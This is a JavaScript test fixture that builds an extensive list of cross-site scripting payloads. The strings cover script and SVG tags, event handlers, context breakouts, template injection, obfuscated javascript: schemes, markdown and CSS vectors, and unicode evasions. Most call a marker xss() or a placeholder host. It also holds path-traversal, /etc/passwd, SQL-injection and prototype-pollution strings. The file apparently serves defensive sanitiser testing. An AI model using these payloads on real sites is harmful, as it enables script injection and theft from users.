// Texts that want to be run, and what they are run into: each calls xss(), which the page then
// counts, or asks for something at a host that is not ours.
//
// They are made of parts: what opens an element, what carries a script in it, how an address is
// disguised, what breaks out of which context.

const call = 'xss()';
const foreign = 'https://evil.invalid';

const handlers = [
  'onerror', 'onload', 'onclick', 'onfocus', 'onmouseover', 'onpointerenter', 'onanimationstart',
  'ontoggle', 'onbegin', 'onscroll', 'oncut', 'onbeforeinput', 'onwheel', 'onauxclick',
];

const elements = [
  `<script>${call}</script>`,
  `<ScRiPt>${call}</sCrIpT>`,
  `<script\n>${call}</script\t>`,
  `<script src=${foreign}/x.js></script>`,
  `<script src="data:text/javascript,${call}"></script>`,
  `<script type=module>${call}</script>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<script>/*`,
  `</script><script>${call}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<style>@import '${foreign}/x.css';</style>`,
  `<style>*{background:url(${foreign}/s)}</style>`,
  `<link rel=stylesheet href=${foreign}/x.css>`,
  `<link rel=prefetch href=${foreign}/x>`,
  `<link rel=import href=${foreign}/x>`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<meta http-equiv=refresh content="0;url=${foreign}/">`,
  `<base href=${foreign}/>`,
  `<iframe src=javascript:${call}></iframe>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<iframe src=${foreign}/></iframe>`,
  `<object data=javascript:${call}></object>`,
  `<object data=${foreign}/x.swf></object>`,
  `<embed src=javascript:${call}>`,
  `<embed src=${foreign}/x>`,
  `<applet code=x></applet>`,
  `<form action=javascript:${call}><button>go</button></form>`,
  `<form action=${foreign}/><input name=q><button>go</button></form>`,
  `<button formaction=javascript:${call}>go</button>`,
  `<input type=image src=${foreign}/i>`,
  `<isindex action=javascript:${call} type=submit>`,
  `<math href=javascript:${call}>x</math>`,
  `<math><maction actiontype=statusline xlink:href=javascript:${call}>x</maction></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
  `<template><script>${call}</script></template>`,
  `<portal src=${foreign}/></portal>`,
  `<audio src=${foreign}/a autoplay></audio>`,
  `<video poster=${foreign}/p><source src=x onerror=${call}></video>`,
  `<table background=${foreign}/b><td>x</table>`,
  `<body onload=${call}>`,
  `<frameset onload=${call}>`,
  `<marquee onstart=${call}>x</marquee>`,
  `<details open ontoggle=${call}>x</details>`,
  `<dialog open onclose=${call}><form method=dialog><button autofocus>x</button></form></dialog>`,
  `<input autofocus onfocus=${call}>`,
  `<select autofocus onfocus=${call}>`,
  `<textarea autofocus onfocus=${call}>`,
  `<keygen autofocus onfocus=${call}>`,
  `<a href=javascript:${call}>x</a>`,
  `<area href=javascript:${call} shape=default>`,
  `<p is=x-y onclick=${call} contenteditable>x</p>`,
  `<xml><image xlink:href="javascript:${call}"></xml>`,
  `<!--><script>${call}</script>-->`,
  `<!--[if gte IE 4]><script>${call}</script><![endif]-->`,
  `<![CDATA[<script>${call}</script>]]>`,
  `<?xml-stylesheet href="javascript:${call}"?>`,
  `<title><img src=x onerror=${call}></title>`,
  `<textarea></textarea><img src=x onerror=${call}>`,
  `<plaintext><script>${call}</script>`,
  `<slot onslotchange=${call}><b>x</b></slot>`,
];

const svg = [
  `<svg onload=${call}>`,
  `<svg/onload=${call}//`,
  `<svg><script>${call}</script></svg>`,
  `<svg><script href="data:text/javascript,${call}"/></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s></svg>`,
  `<svg><a xlink:href="javascript:${call}"><text y=20>x</text></a></svg>`,
  `<svg><a><animate attributeName=href values=javascript:${call} /><text y=20>x</text></a></svg>`,
  `<svg><set attributeName=onmouseover to=${call}></svg>`,
  `<svg><foreignObject><iframe src=javascript:${call}></iframe></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'>` +
    `<script>${call}</script></svg>#x"/></svg>`,
  `<svg><image href=${foreign}/i.svg></svg>`,
  `<svg><style><img src=x onerror=${call}></style></svg>`,
  `<svg><desc><![CDATA[</desc><script>${call}</script>]]></svg>`,
  `<svg><title><style><a title="</style></title><img src=x onerror=${call}>"></svg>`,
  `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">` +
    `${call}</handler></svg>`,
];

const withHandler = handlers.flatMap((handler) => [
  `<img src=x ${handler}=${call}>`,
  `<b ${handler}="${call}" style="animation:x 1s">x</b>`,
  `"${handler}="${call}`,
  `' autofocus tabindex=1 ${handler}='${call}`,
]);

const outOf = [
  `"><script>${call}</script>`,
  `'><script>${call}</script>`,
  `\`><img src=x onerror=${call}>`,
  `--><img src=x onerror=${call}>`,
  `]]><img src=x onerror=${call}>`,
  `</title><img src=x onerror=${call}>`,
  `</textarea><img src=x onerror=${call}>`,
  `</style><img src=x onerror=${call}>`,
  `</noscript><img src=x onerror=${call}>`,
  `</option></select><img src=x onerror=${call}>`,
  `</bdi></a></p><img src=x onerror=${call}>`,
  `';${call};//`,
  `";${call};//`,
  `\\";${call};//`,
  `\`;${call};//`,
  `});${call};//`,
  `*/${call}/*`,
  `\u2028${call}//`,
  `\n${call}//`,
  `{"t":"ok","x":"</script><script>${call}</script>"}`,
  `","__proto__":{"innerHTML":"<img src=x onerror=${call}>"},"x":"`,
  '__proto__',
  'constructor',
  'constructor.prototype',
  'toString',
  'hasOwnProperty',
  'dangerouslySetInnerHTML',
  `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${call}>"}}`,
  `{"type":"script","props":{"children":"${call}"},"constructor":null}`,
];

const templates = [
  '{{constructor.constructor("xss()")()}}',
  '{{$on.constructor("xss()")()}}',
  '{{_c.constructor("xss()")()}}',
  '${xss()}',
  '#{xss()}',
  '<%= xss() %>',
  '{%xss()%}',
  '[[xss()]]',
  '{xss()}',
  '@{xss()}',
  '${alert`1`}',
  '%{xss()}',
  '$(xss)',
  '`${xss()}`',
  '{{#with "x"}}{{constructor}}{{/with}}',
  '<x ng-app>{{xss()}}</x>',
  '<x v-html="xss()"></x>',
  '<x x-data x-init="xss()"></x>',
  '<div data-bind="html: xss()"></div>',
  '%s%s%n%x',
  '../../../../etc/passwd',
  "' OR 1=1; --",
];

// What a browser takes for "javascript:", and what people once made it take.
const schemes = [
  'javascript:', 'JaVaScRiPt:', ' javascript:', '\tjavascript:', '\u0001javascript:',
  'java\tscript:', 'java\nscript:', 'java\rscript:', 'java\u0000script:', 'javascript\t:',
  '\u00a0javascript:', '\ufeffjavascript:', '\u200bjavascript:', '\u2028javascript:',
  'javascript&colon;', 'javascript&#58;', 'javascript&#x3a;', '&#106;avascript:',
  '&#x6A;&#x61;vascript:', '&#0000106avascript:', 'jav&Tab;ascript:', 'jav&NewLine;ascript:',
  'java\u00adscript:', 'javascript\uff1a', '\uff4aavascript:', 'j\u0061v\u0061script:',
  '%6aavascript:', 'javascript%3a', 'javascript://%0a', 'javascript://example.com/%0a',
  'x:javascript:', 'view-source:javascript:', 'feed:javascript:', 'vbscript:', 'livescript:',
  'mocha:', 'jar:javascript:', 'blob:javascript:', 'filesystem:javascript:',
  'data:text/html,<script>opener.', 'data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==//',
  'data:image/svg+xml,<svg onload=', '\\\\evil.invalid\\', '//evil.invalid/',
  'https:\\evil.invalid\\',
  'file:///etc/passwd#', 'intent://x#Intent;S.browser_fallback_url=javascript:',
  'about:blank#',
];

const links = schemes.flatMap((scheme, i) => [
  `[click](${scheme}${call})`,
  [
    `![img](${scheme}${call})`,
    `<${scheme}${call}>`,
    `[a]: ${scheme}${call}\n\n[a]`,
    `${scheme}${call}`,
  ][i % 4],
]);

const markdown = [
  `[x](javascript:${call} "title\\" onclick=\\"${call}")`,
  `[x](<javascript:${call}>)`,
  `[x](https://a.example" onclick="${call})`,
  `[x](https://a.example' onmouseover='${call})`,
  `[<img src=x onerror=${call}>](https://a.example)`,
  `[![x](${foreign}/i.png)](javascript:${call})`,
  `![x](${foreign}/pixel.png)`,
  `![x" onerror="${call}](x)`,
  `**<img src=x onerror=${call}>**`,
  `_\`<img src=x onerror=${call}>\`_`,
  `\`\`\`<script>\n${call}\n</script>\`\`\``,
  `\`\`\`html onload=${call}\n<b>\n\`\`\``,
  `> <script>${call}</script>`,
  `1. <svg onload=${call}>\n2. x`,
  `- [ ] <input autofocus onfocus=${call}>`,
  `~~<iframe src=javascript:${call}>~~`,
  `# <style>@import '${foreign}'</style>`,
  `<https://evil.invalid/"onclick=${call}>`,
  `https://a.example/<script>${call}</script>`,
  `https://user:pass@evil.invalid/${call}`,
  `mailto:x@a.example?subject=<script>${call}</script>`,
  `mailto:"><script>${call}</script>@a.example`,
  `tel:+1"onclick="${call}`,
  `[x](mailto:javascript:${call})`,
  `[x](https://a.example/?q=javascript:${call})`,
  `[x][y]\n\n[y]: javascript:${call}`,
  `*bold*_italic_~strike~\`\`\`<script>${call}</script>\`\`\``,
  `[x](http://[::1]:80/"onload="${call})`,
  `[${'['.repeat(200)}](javascript:${call})`,
  `${'*'.repeat(300)}<b onclick=${call}>`,
];

const css = [
  `expression(${call})`,
  `background:url(javascript:${call})`,
  `-moz-binding:url(${foreign}/x.xml#x)`,
  `behavior:url(${foreign}/x.htc)`,
  `color:red;}*{background:url(${foreign}/c)}`,
  `<b style="background:url(${foreign}/s)">x</b>`,
  `<b style="behavior:url(#default#time2)" onbegin="${call}">x</b>`,
  `url(${foreign}/u)`,
  `var(--x);background:image-set("${foreign}/v" 1x)`,
  `\\65xpression(${call})`,
];

const unicode = [
  `\u202e)(ssx<script>${call}</script>`,
  `\u2066<img src=x onerror=${call}>\u2069`,
  `\u200f\u200e\u061c<svg onload=${call}>`,
  `\uff1cscript\uff1e${call}\uff1c/script\uff1e`,
  `\u003cscript\u003e${call}\u003c/script\u003e`,
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `&#60;script&#62;${call}&#60;/script&#62;`,
  `&amp;lt;script&amp;gt;${call}`,
  `%3Cscript%3E${call}%3C/script%3E`,
  `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${call}\\x3c/script\\x3e`,
  `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  `<scr\u0000ipt>${call}</script>`,
  `<\u0000script>${call}</script>`,
  `<img\u0000src=x onerror=${call}>`,
  `<img\u000bsrc=x\u000conerror=${call}>`,
  `<script\u00a0>${call}</script>`,
  `<\u017fcript>${call}</\u017fcript>`,
  `\u{1f469}\u200d\u{1f4bb}<b onclick=${call}>\u{1f3fb}`,
  `${'\u0301'.repeat(60)}<script>${call}</script>`,
  `\ufffe\uffff<script>${call}</script>`,
  `\u00bcscript\u00be${call}\u00bc/script\u00be`,
  `\ud83d<script>${call}</script>`,
  `שלום "><img src=x onerror=${call}> \u202d`,
  `مرحبا <svg onload=${call}>\u202c`,
];

export const injections = [
  ...new Set([
    ...elements,
    ...svg,
    ...withHandler,
    ...outOf,
    ...templates,
    ...links,
    ...markdown,
    ...css,
    ...unicode,
  ]),
];

// As much of a text as fits into that many bytes, whole characters only.
export function fitted(text, bytesMax) {
  let out = '';
  let bytes = 0;
  for (const character of text) {
    bytes += Buffer.byteLength(character);
    if (bytes > bytesMax) break;
    out += character;
  }
  return out;
}
